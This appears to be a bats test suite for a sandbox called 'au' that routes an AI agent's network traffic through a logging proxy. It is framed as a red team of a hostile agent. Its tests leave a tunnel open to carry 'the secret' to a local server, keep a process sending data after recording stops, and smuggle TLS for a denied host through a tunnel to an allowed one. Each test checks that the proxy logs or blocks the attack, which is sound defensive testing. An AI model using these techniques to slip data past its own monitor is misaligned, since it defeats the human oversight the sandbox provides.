#!/usr/bin/env bats
# Red team against the network: a hostile agent after the network work was merged. Each
# test is an attack that worked, shown first where nothing stands in its way, then
# failing against au. The destinations come from this machine's configuration
# (tests/integration/net.bash) or are servers the test runs on the host's loopback.

load ../integration/helpers
load ../integration/net

setup() {
	require_world
	fresh_config
	local out
	out=$(as_human au new --yes 2>&1) || fail "au new failed: $out"
}

teardown() {
	stop_servers
	[[ -f $BATS_TEST_TMPDIR/holder.pid ]] && kill "$(cat "$BATS_TEST_TMPDIR/holder.pid")" 2>/dev/null
	[[ -n ${HELD_DIR:-} ]] && rm -rf "$HELD_DIR"
	world_teardown
}

# holder_server PORT: a server of the human's on the host's 127.0.0.1:PORT that writes
# every line its clients send to $HELD, and holds each connection open for as long as it
# lives (as a server that wants to outlast its client's run would).
holder_server() {
	local port=$1 i
	# A folder the human can write (bats's own are root's).
	HELD_DIR=$(mktemp -d /tmp/au-test-held.XXXXXX)
	HELD=$HELD_DIR/held
	chown "$AU_HUMAN" "$HELD_DIR"
	su "$AU_HUMAN" -s /bin/sh -c "exec /usr/bin/python3 -c '
import socket, threading
def hold(c):
    for line in c.makefile(\"rb\"):
        with open(\"$HELD\", \"ab\") as f:
            f.write(line)
    threading.Event().wait()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((\"127.0.0.1\", $port))
s.listen()
while True:
    c, _ = s.accept()
    threading.Thread(target=hold, args=(c,), daemon=True).start()
'" </dev/null >/dev/null 2>&1 3>&- &
	echo $! >"$BATS_TEST_TMPDIR/holder.pid"
	for ((i = 0; i < 100; i++)); do
		python3 -c "import socket; socket.create_connection(('127.0.0.1', $port)).close()" 2>/dev/null && return 0
		sleep 0.1
	done
	fail "the holder server on port $port did not start"
}

# The agent's tunnel through its HTTP proxy to TARGET: it sends one line, and leaves
# with the tunnel open.
TUNNEL_AND_LEAVE='import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(("CONNECT %s HTTP/1.1\r\n\r\n" % sys.argv[1]).encode())
if not s.recv(100).startswith(b"HTTP/1.1 200"):
    sys.exit(1)
s.sendall(b"the secret\n")'

@test "a connection still open when the agent leaves is in the log, with what it carried" {
	local port
	port=$(free_port)
	holder_server "$port"
	as_human au net allow "localhost:$port" >/dev/null

	# The agent sends its line through the tunnel and leaves it open: the server got it.
	run --separate-stderr as_human au run --no-login /usr/bin/python3 -c "$TUNNEL_AND_LEAVE" "localhost:$port"
	assert_success
	run grep -c "the secret" "$HELD"
	assert_output 1

	# The connection is in the log, with its bytes, ended by the proxy as the run ended
	# (before the fix the proxy left without a word about it).
	assert_logged ".kind == \"connect\" and .dest == \"localhost:$port\" and .decision == \"allow\" and .up == 11 and .reason == \"the agent is gone\""
	assert_logged '.kind == "proxy" and .reason == "stopped: the agent is gone"'
}

@test "with --keep-running, a tunnel opened during the run carries nothing once au has stopped recording" {
	local port
	port=$(free_port)
	holder_server "$port"
	as_human au net allow "localhost:$port" >/dev/null

	# A process left behind holds a tunnel opened during the run, and sends through it
	# again once au run has returned (and stopped reading the proxy's records).
	run --separate-stderr as_human au run --keep-running --no-login sh -c "/usr/bin/python3 -c '
import socket, sys, time
s = socket.create_connection((\"127.0.0.1\", 3128), timeout=20)
s.sendall(b\"CONNECT localhost:$port HTTP/1.1\\r\\n\\r\\n\")
if not s.recv(100).startswith(b\"HTTP/1.1 200\"):
    sys.exit(1)
s.sendall(b\"during the run\\n\")
time.sleep(3)
s.sendall(b\"after au returned\\n\")
time.sleep(1)
open(\"/home/agent/late.done\", \"w\").close()
' >/dev/null 2>&1 & sleep 1"
	assert_success
	local i
	for ((i = 0; i < 100; i++)); do
		[[ -e /home/agent/late.done ]] && break
		sleep 0.1
	done
	[[ -e /home/agent/late.done ]] || fail "the process left behind did not finish"
	# The tunnel carried what was sent during the run (which needs no defence to show)...
	run grep -c "during the run" "$HELD"
	assert_output 1
	# ...and nothing after: no record of it could reach the log any more (before the fix
	# the proxy went on relaying it, unrecorded, for as long as the process liked).
	run grep -c "after au returned" "$HELD"
	assert_output 0
}

@test "the proxy's last record reaches the log in every run, before the run's cgroup is killed" {
	local attempt
	# The end of the run kills what is left in the run's cgroup. Before the fix it did so
	# while the proxy was still sending its last records, in about half the runs here:
	# the records of connections that ended with the agent were lost, and au warned
	# that the proxy had stopped during the run.
	# Five runs that each use the network: every one's log ends with the proxy's stop,
	# and au never says the proxy stopped during the run (it did not).
	for attempt in 1 2 3 4 5; do
		run --separate-stderr as_human au run --no-login curl -s -o /dev/null --max-time 20 http://127.0.0.1:3128/
		refute_output --partial "stopped during the run"
		[[ $stderr != *"stopped during the run"* ]] || fail "run $attempt: $stderr"
	done
	run net_log_json
	run jq -s '[.[] | select(.kind == "proxy" and (.reason | startswith("stopped:")))] | length' <<<"$output"
	assert_output 5
}

@test "smuggling: TLS for a denied name inside a CONNECT or SOCKS tunnel to an allowed one is refused" {
	require_destinations
	local registry_ip
	registry_ip=$(getent ahostsv4 "$REGISTRY_HOST" | awk 'NR == 1 { print $1 }')
	# Where no proxy checks it, the denied name reaches the allowed host's server in its
	# ClientHello: the server answers (with a page or a TLS alert; not a refused connection).
	run su agent -s /bin/sh -c "curl -sS -k --max-time 20 -o /dev/null --resolve '$MIRROR_HOST:443:$registry_ip' 'https://$MIRROR_HOST/'" </dev/null
	[[ $status != 6 && $status != 7 && $status != 28 ]] || fail "the allowed host's server did not answer: $output"

	as_human au net mode allow >/dev/null
	as_human au net allow "$REGISTRY_HOST" >/dev/null
	# The tunnel is to the allowed name (the HTTP proxy's CONNECT, then SOCKS5 with the
	# name), and the TLS inside it asks for the denied one. Capture checked this before;
	# the tunnels did not, and logged the denied host's session as the allowed one's.
	run --separate-stderr as_human au run --no-login sh -c "
		curl -sS -k --max-time 20 -o /dev/null -w '%{http_code}\n' --connect-to '$MIRROR_HOST:443:$REGISTRY_HOST:443' 'https://$MIRROR_HOST/'
		curl -sS -k --max-time 20 -o /dev/null -w '%{http_code}\n' -x socks5h://127.0.0.1:1080 --connect-to '$MIRROR_HOST:443:$REGISTRY_HOST:443' 'https://$MIRROR_HOST/'
		curl -sS -k --max-time 20 -o /dev/null -w '%{http_code}\n' 'https://$REGISTRY_HOST/'"
	assert_line --index 0 000
	assert_line --index 1 000
	# The allowed name, asked for by its own name, still works through the same tunnel.
	assert_line --index 2 --regexp '^[1-5][0-9][0-9]$'
	refute_line --index 2 000
	assert_logged ".kind == \"connect\" and .dest == \"$REGISTRY_HOST:443\" and .decision == \"deny\" and .reason == \"SNI mismatch: $MIRROR_HOST\""
	assert_logged ".kind == \"socks\" and .dest == \"$REGISTRY_HOST:443\" and .decision == \"deny\" and .reason == \"SNI mismatch: $MIRROR_HOST\""
	assert_logged ".kind == \"connect\" and .dest == \"$REGISTRY_HOST:443\" and .decision == \"allow\""
}
